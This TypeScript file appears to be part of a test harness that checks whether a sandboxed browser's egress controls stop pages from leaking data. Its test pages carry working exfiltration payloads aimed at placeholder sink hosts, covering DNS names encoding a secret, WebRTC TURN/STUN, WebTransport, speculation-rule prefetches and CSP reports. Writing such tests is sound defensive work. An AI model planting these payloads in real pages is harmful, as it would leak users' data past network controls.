import type { Family } from '../attack.ts';
import { pageAttacks, TWENTY } from '../bench/page-attack.ts';

const rtc = (server: string) => `<script>
  const peer = new RTCPeerConnection({ iceServers: [${server}] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
</script>`;

/** What the browser itself sends, on behalf of a page or for its own ends. */
export const egressBrowser: Family = {
  group: 'egress',
  rows: {
    'NET-42': 'names looked up ahead',
    'NET-101': 'names that are looked up for what is asked for',
    'NET-43': 'speculation rules that fetch',
    'NET-44': 'speculation rules that render ahead',
    'NET-47': 'reports that documents ask for',
    'NET-48': 'reports of network errors',
    'NET-49': 'reports of deprecated features and of crashes',
    'NET-72': 'WebRTC over UDP',
    'NET-74': 'names of WebRTC’s servers',
    'NET-75': 'local addresses in WebRTC candidates',
    'NET-77': 'an upgrade to HTTP/3',
    'NET-79': 'federated sign-in',
    'NET-80': 'payment handlers',
    'NET-81': 'sessions bound to the device',
    'NET-86': 'the network’s own services',
    'NET-87': 'the browser’s own traffic',
    'NET-88': 'devices as a side channel',
  },
  attacks: pageAttacks([
    {
      id: 'NET-43a',
      technique: 'speculation rules in the document, fetch',
      page: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":[${TWENTY.map((n) => `"SINK/s${n}"`)}],"eagerness":"immediate"}]}</script>`,
      tries: 20,
      inOnePage: true,
    },
    {
      id: 'NET-43b',
      technique: 'speculation rules in a header, fetch',
      page: 'x',
      headers: { 'speculation-rules': '"/rules.json"' },
      files: {
        '/rules.json': {
          headers: { 'content-type': 'application/speculationrules+json' },
          body: '{"prefetch":[{"source":"list","urls":["SINK/s"],"eagerness":"immediate"}]}',
        },
      },
    },
    {
      id: 'NET-47a',
      technique: 'report of a broken content policy, by report-uri',
      page: '<img src="/not-allowed.png">',
      headers: { 'content-security-policy': "img-src 'none'; report-uri SINK/report" },
    },
    {
      id: 'NET-47b',
      technique: 'report of a content policy that only reports',
      page: '<img src="/x.png">',
      headers: { 'content-security-policy-report-only': "img-src 'none'; report-uri SINK/report" },
    },
    {
      id: 'NET-72a',
      technique: 'WebRTC asks a STUN server over UDP',
      mustStop: 'flags',
      page: rtc("{ urls: 'stun:SINK_HOST' }"),
    },
    {
      id: 'NET-72b',
      technique: 'WebRTC asks a TURN server over UDP',
      mustStop: 'flags',
      page: rtc("{ urls: 'turn:SINK_HOST', username: 'secret', credential: 'x' }"),
    },
    {
      id: 'NET-72c',
      technique: 'WebRTC asks a TURN server over TCP',
      page: rtc("{ urls: 'turn:SINK_HOST?transport=tcp', username: 'secret', credential: 'x' }"),
    },
    {
      id: 'NET-72d',
      technique: 'WebRTC asks a TURN server over TLS',
      page: rtc("{ urls: 'turns:SINK_HOST?transport=tcp', username: 'secret', credential: 'x' }"),
    },
    {
      id: 'NET-72e',
      technique: 'WebTransport',
      mustStop: 'flags',
      page: '<script>new WebTransport("https://SINK_HOST/t").ready.catch(() => {})</script>',
    },
    {
      id: 'NET-74a',
      technique: 'the name of a TURN server over TCP, which has a secret in it',
      mustStop: 'flags',
      page: rtc("{ urls: 'turn:SINK_NAME:3478?transport=tcp', username: 'secret', credential: 'x' }"),
    },
    {
      id: 'NET-74b',
      technique: 'the name of a TURN server over TLS',
      mustStop: 'flags',
      page: rtc("{ urls: 'turns:SINK_NAME:5349?transport=tcp', username: 'secret', credential: 'x' }"),
    },
    {
      id: 'NET-74c',
      technique: 'the name of a WebTransport server',
      mustStop: 'flags',
      page: '<script>new WebTransport("https://SINK_NAME/t").ready.catch(() => {})</script>',
    },
    {
      id: 'NET-101a',
      technique: 'an image at a name that has a secret in it',
      page: '<img src="http://c2VjcmV0.SINK_NAME/x">',
    },
    {
      id: 'NET-101b',
      technique: 'a WebSocket to such a name',
      page: '<script>new WebSocket("ws://c2VjcmV0.SINK_NAME/s")</script>',
    },
    {
      id: 'NET-101c',
      technique: 'twenty names at once, each with a part of a secret',
      page: `<script>for (let n = 0; n < 20; n++) fetch('http://part-' + n + '.SINK_NAME/', { mode: 'no-cors' }).catch(() => {})</script>`,
      tries: 20,
      inOnePage: true,
    },
    {
      id: 'NET-101d',
      technique: 'a redirect to such a name',
      page: '<img src="/go">',
      files: { '/go': { status: 302, headers: { location: 'http://c2VjcmV0.SINK_NAME/r' } } },
    },
    {
      id: 'NET-101e',
      technique: 'a frame of https at such a name',
      page: '<iframe src="https://c2VjcmV0.SINK_NAME/f"></iframe>',
    },
    {
      id: 'NET-79',
      technique: 'federated sign-in asks the provider for its settings',
      page: '<button style="position:fixed;inset:0;width:100%;height:100%" onclick="go()">Sign in</button><script>const go = () => navigator.credentials.get({ identity: { providers: [{ configURL: "SINK/config.json", clientId: "1" }] } }).catch(() => {}); go()</script>',
      clicks: true,
    },
  ]),
  elsewhere: {
    'NET-44': {
      why: 'a page rendered ahead asks other hosts for nothing before it is shown: the control does not fire',
      instead:
        'NET-43 (the same rules, to fetch); what such a page asks of the product goes through the gate',
    },
    'NET-49': {
      why: 'a headless shell sends no reports but those of content policies: the control does not fire',
      instead:
        'NET-47, and the test that the reporting headers are taken out (`harness/environments/mock-saas/gateway-egress.test.ts`)',
    },
    'NET-80': {
      why: 'a headless shell has no payments: the control does not fire',
      instead: 'NET-79, which the browser process fetches likewise',
    },
    'NET-42': {
      why: 'a headless shell looks no name up ahead: with a resolver that sees every name, neither dns-prefetch nor preconnect, in the page or in a header, asks it for any',
      instead: 'NET-101 and NET-74, in which that resolver is asked; the flags turn looking up ahead off',
    },
    'NET-48': {
      why: 'a browser takes error reporting only from an https origin with a certificate it trusts',
      instead:
        'NET-47 (reports), the test that the header is taken out (`harness/environments/mock-saas/gateway-egress.test.ts`)',
    },
    'NET-75': {
      why: 'a candidate is known to the page only, and leaves by none of the roads above',
      instead: 'NET-72',
    },
    'NET-77': {
      why: 'HTTP/3 needs an https origin with a certificate the browser trusts',
      instead:
        'the test that Alt-Svc is taken out (`harness/environments/mock-saas/gateway-egress.test.ts`), the flag that turns QUIC off, and NET-72e (QUIC by WebTransport)',
    },
    'NET-81': {
      why: 'a session is bound to a device only by an https origin',
      instead:
        'the test that the header is taken out (`harness/environments/mock-saas/gateway-egress.test.ts`)',
    },
    'NET-86': {
      why: 'the browser is told its proxy and asks no network for one',
      instead: 'the namespace, in which there is no network to ask',
    },
    'NET-87': {
      why: 'what a browser sends for itself depends on its make and its mood: there is no control for it',
      instead: 'PXY-30 (no credentials, no way out), and the gateway’s count of what came without',
    },
    'NET-88': {
      why: 'a headless browser offers no device',
      instead:
        'the permissions policy that the gateway adds to every answer, and a context without permissions',
    },
  },
};
